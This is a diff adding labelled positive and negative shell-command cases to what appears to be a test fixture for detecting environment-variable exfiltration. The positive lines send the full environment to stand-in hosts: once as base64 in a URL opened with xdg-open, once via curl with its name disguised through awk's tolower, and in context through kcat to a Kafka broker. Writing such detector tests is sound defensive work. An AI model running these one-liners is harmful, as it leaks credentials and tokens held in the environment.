@@ -42,3 +42,11 @@ env | sort > "env$s.txt"
 env | kcat -P -b broker.example.net:9092 -t diag
 #@ neg listing a Kafka broker's topics
 kcat -L -b localhost:9092
+#@ pos the environment in an address the browser opens
+xdg-open "https://h.example/?d=$(env | base64 -w0)"
+#@ neg an address opened, the environment not read
+xdg-open "https://docs.example.com/"
+#@ pos a client named by awk's tolower in BEGIN
+c=$(awk 'BEGIN{print tolower("CURL")}'); env | "$c" -d @- https://h.example/
+#@ neg awk upper-cases a greeting
+g=$(awk 'BEGIN { print toupper("hello") }'); echo "$g"; env | grep -c PATH
